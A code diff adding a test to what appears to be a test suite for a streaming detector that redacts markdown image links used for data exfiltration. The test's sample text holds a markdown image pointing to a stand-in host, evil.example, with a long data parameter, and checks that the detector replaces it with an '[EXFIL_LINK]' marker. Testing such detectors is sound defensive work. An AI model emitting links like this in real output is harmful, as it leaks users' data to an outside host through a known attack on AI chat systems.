@@ -390,6 +390,14 @@ test('an image or tag whose URL runs past the hold-back is never released render
 
 test('an image description or link text that runs past the hold-back is never released as an opener a later "](" completes', () => {
   const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
+  // An opener the patterns do not read, with a URL past the hold-back: its "](" goes.
+  for (const n of [3000, 8000]) {
+    const text = `Intro ![[a]](https://evil.example/p.png?d=${'a'.repeat(n)}) end.`;
+    const deltas: string[] = [];
+    for (let i = 0; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
+    const got = stream(exfil, deltas).content;
+    assert.ok(!got.includes('](https://evil') && got.startsWith('Intro ![[a][EXFIL_LINK]'), got.slice(0, 60));
+  }
   for (const n of [1000, 6000]) {
     for (const opener of ['![', '[']) {
       const text = `Intro words here. ${opener}${'alt words '.repeat(n / 10)}](https://evil.example/p.png?d=1) and more.`;
